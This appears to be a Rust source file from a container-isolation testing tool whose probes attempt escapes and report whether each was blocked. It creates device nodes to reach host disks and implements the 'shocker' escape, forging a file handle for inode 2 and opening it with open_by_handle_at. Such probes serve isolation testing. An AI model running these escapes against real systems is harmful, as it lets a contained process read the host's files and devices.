//! Device nodes and file handles: reaching the host's disks and memory.

use std::os::fd::AsRawFd;

use crate::sys::{self, ename};
use crate::verdict::{all, blocked, error, escaped, Verdict};

/// `mknod-open b|c MAJOR MINOR`: make the node wherever the VE can write
/// (its root, /tmp, /dev, /run, /dev/shm, a fresh tmpfs) and read a byte.
pub fn mknod_open(args: &[String]) -> Verdict {
    let (Some(kind), Some(major), Some(minor)) = (
        args.first(),
        args.get(1).and_then(|s| s.parse::<u32>().ok()),
        args.get(2).and_then(|s| s.parse::<u32>().ok()),
    ) else {
        return error("usage: mknod-open b|c MAJOR MINOR");
    };
    let mode = match kind.as_str() {
        "b" => libc::S_IFBLK,
        "c" => libc::S_IFCHR,
        k => return error(format!("kind {k}: b or c")),
    } | 0o600;
    if let Err(e) = sys::private_mount_ns() {
        return error(format!("private mount namespace: {}", ename(e)));
    }
    let mut dirs: Vec<String> = ["/", "/tmp", "/dev", "/run", "/dev/shm", "/root"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    if let Ok(d) = sys::scratch_dir("devtmp") {
        if sys::mount(Some("tmpfs"), &d, Some("tmpfs"), 0, None).is_ok() {
            dirs.push(d);
        }
    }
    let parts = dirs
        .into_iter()
        .map(|d| {
            let node = format!("{}/.kattack-node", d.trim_end_matches('/'));
            let _ = std::fs::remove_file(&node);
            let v = match sys::mknod(&node, mode, major, minor) {
                Err(e) => blocked(format!("mknod: {}", ename(e))),
                Ok(()) => match crate::probes::mounts::open_for(&node, true) {
                    Verdict::Blocked(why) => blocked(format!("made, but open/read: {why}")),
                    v => v,
                },
            };
            let _ = std::fs::remove_file(&node);
            (d, v)
        })
        .collect();
    all(parts)
}

#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

/// `open-by-handle`: the "shocker" escape. A handle of the VE's own root,
/// then a forged one for inode 2 (the root of an ext4 filesystem: the
/// host's, behind the VE's overlay), opened through a directory of the VE.
pub fn open_by_handle(_: &[String]) -> Verdict {
    let mut parts = Vec::new();
    let mut h = Handle {
        bytes: 128,
        kind: 0,
        data: [0; 128],
    };
    let mut mount_id: libc::c_int = 0;
    let path = c"/etc";
    // SAFETY: h is a file_handle with room for 128 bytes of handle; path
    // and mount_id are valid.
    let r = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &mut h as *mut Handle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    };
    let dirs = ["/", "/etc", "/proc", "/sys", "/dev"];
    if r == 0 {
        parts.push(("own handle".to_string(), try_handles(&dirs, &mut h)));
    } else {
        parts.push((
            "name_to_handle_at".to_string(),
            blocked(ename(sys::errno())),
        ));
    }
    // FILEID_INO32_GEN: inode 2, generation 0.
    let mut forged = Handle {
        bytes: 8,
        kind: 1,
        data: [0; 128],
    };
    forged.data[..4].copy_from_slice(&2u32.to_ne_bytes());
    parts.push((
        "forged inode 2".to_string(),
        try_handles(&dirs, &mut forged),
    ));
    all(parts)
}

fn try_handles(dirs: &[&str], h: &mut Handle) -> Verdict {
    let mut parts = Vec::new();
    for d in dirs {
        let Ok(dfd) = sys::open(d, libc::O_PATH | libc::O_DIRECTORY) else {
            continue;
        };
        // SAFETY: h is a valid file_handle of h.bytes bytes.
        let r = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                dfd.as_raw_fd(),
                h as *mut Handle,
                libc::O_RDONLY | libc::O_CLOEXEC,
            )
        };
        let v = if r >= 0 {
            let _ = sys::own(r as i32);
            escaped("open_by_handle_at opened a file")
        } else {
            blocked(ename(sys::errno()))
        };
        parts.push((format!("via {d}"), v));
    }
    all(parts)
}
